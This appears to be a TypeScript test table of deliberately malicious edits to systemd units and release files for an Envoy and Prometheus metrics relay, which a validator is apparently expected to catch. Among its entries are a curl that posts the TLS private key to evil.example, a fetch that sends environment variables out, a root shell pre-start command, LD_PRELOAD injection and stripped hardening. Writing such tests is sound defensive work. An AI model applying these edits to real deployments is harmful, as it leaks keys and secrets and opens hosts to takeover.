import { type Malicious, release, text } from "./table.ts";

const envoyUnit = /metrics-link-envoy\.service$/;
const prometheusUnit = /metrics-link-prometheus\.service$/;

/** What systemd runs, and how. */
export const units: readonly Malicious[] = [
  [
    "receiver",
    "a quoted flag",
    "receiver-release",
    /envoy\.service.*"--config-yaml/s,
    (it) =>
      text(it, envoyUnit, (unit) => unit.replace("--concurrency 2", `"--config-yaml={admin: {}}" --concurrency 2`)),
  ],
  [
    "receiver",
    "a line that continues after a backslash",
    "receiver-release",
    /prometheus\.service.*web\.enable-admin-api/s,
    (it) =>
      text(it, prometheusUnit, (unit) =>
        unit.replace("--log.format=json", "--log.format=json \\\n  --web.enable-admin-api"),
      ),
  ],
  [
    "receiver",
    "a flag in a variable",
    "receiver-release",
    /envoy\.service.*\$MORE/s,
    (it) =>
      text(it, envoyUnit, (unit) =>
        unit
          .replace("--concurrency 2", "$MORE")
          .replace("[Service]", "[Service]\nEnvironment=MORE=--config-path=/tmp/x"),
      ),
  ],
  [
    "receiver",
    "ExecStart with a blank before the sign",
    "receiver-release",
    /envoy\.service.*ExecStart =/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Install]", "ExecStart =\nExecStart =/bin/true\n\n[Install]")),
  ],
  [
    "receiver",
    "a command as root before the service",
    "receiver-release",
    /envoy\.service.*ExecStartPre=\+/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("ExecStart=", "ExecStartPre=+/bin/sh -c id\nExecStart=")),
  ],
  [
    "receiver",
    "--config-yaml over the file",
    "receiver-release",
    /envoy\.service.*--config-yaml/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("--concurrency 2", "--config-yaml {} --concurrency 2")),
  ],
  [
    "receiver",
    "a file of flags",
    "receiver-release",
    /prometheus\.service.*@\/tmp\/flags/s,
    (it) => text(it, prometheusUnit, (unit) => unit.replace("--log.format=json", "@/tmp/flags")),
  ],
  [
    "receiver",
    "hardening removed",
    "receiver-release",
    /envoy\.service.*ProtectSystem=strict/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("ProtectSystem=strict\n", "")),
  ],
  [
    "receiver",
    "User= removed: Envoy is root",
    "receiver-release",
    /envoy\.service.*User=envoy/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("User=envoy\n", "")),
  ],
  [
    "receiver",
    "a capability given",
    "receiver-release",
    /envoy\.service.*CAP_SYS_PTRACE/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_PTRACE")),
  ],
  [
    "receiver",
    "Prometheus listens on every address",
    "receiver-release",
    /prometheus\.service.*0\.0\.0\.0:9090/s,
    (it) => text(it, prometheusUnit, (unit) => unit.replace("127.0.0.1:9090", "0.0.0.0:9090")),
  ],
  [
    "receiver",
    "a timer for a program of somebody else",
    "receiver-release",
    /systemd\/evil\.timer/,
    (it) =>
      release(it, ({ files }) =>
        files.push({
          path: "systemd/evil.timer",
          content: "[Timer]\nOnCalendar=minutely\n",
          mode: "0644",
          owner: "root",
          group: "root",
        }),
      ),
  ],
  [
    "receiver",
    "a drop-in for sshd",
    "receiver-release",
    /systemd\/ssh\.service\.d/,
    (it) =>
      release(it, ({ files }) =>
        files.push({
          path: "systemd/ssh.service.d/x.conf",
          content: "[Service]\nExecStartPre=/bin/true\n",
          mode: "0644",
          owner: "root",
          group: "root",
        }),
      ),
  ],
  [
    "receiver",
    "the drain script sends the key away",
    "receiver-release",
    /drain\.sh.*evil\.example/s,
    (it) =>
      text(
        it,
        /^envoy\/drain\.sh$/,
        (script) =>
          `${script}curl --silent --data-binary @/opt/metrics-link/current/tls/private-key.pem https://evil.example\n`,
      ),
  ],
  [
    "receiver",
    "a library is loaded before Envoy",
    "receiver-release",
    /envoy\.service.*LD_PRELOAD/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Service]", "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so")),
  ],
  [
    "receiver",
    "a failure starts something else",
    "receiver-release",
    /envoy\.service.*OnFailure=/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Unit]", "[Unit]\nOnFailure=debug-shell.service")),
  ],
  [
    "receiver",
    "core dumps of the process with the key",
    "receiver-release",
    /envoy\.service.*LimitCORE/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("LimitNOFILE=65536", "LimitNOFILE=65536\nLimitCORE=infinity")),
  ],
  [
    "sender",
    "the repairer's program is another",
    "sender-release",
    /repair\.mjs.*process\.env/s,
    (it) =>
      text(
        it,
        /^repair\/repair\.mjs$/,
        (program) => `${program}\nfetch("http://127.0.0.1:9091",{body:JSON.stringify(process.env)})`,
      ),
  ],
];
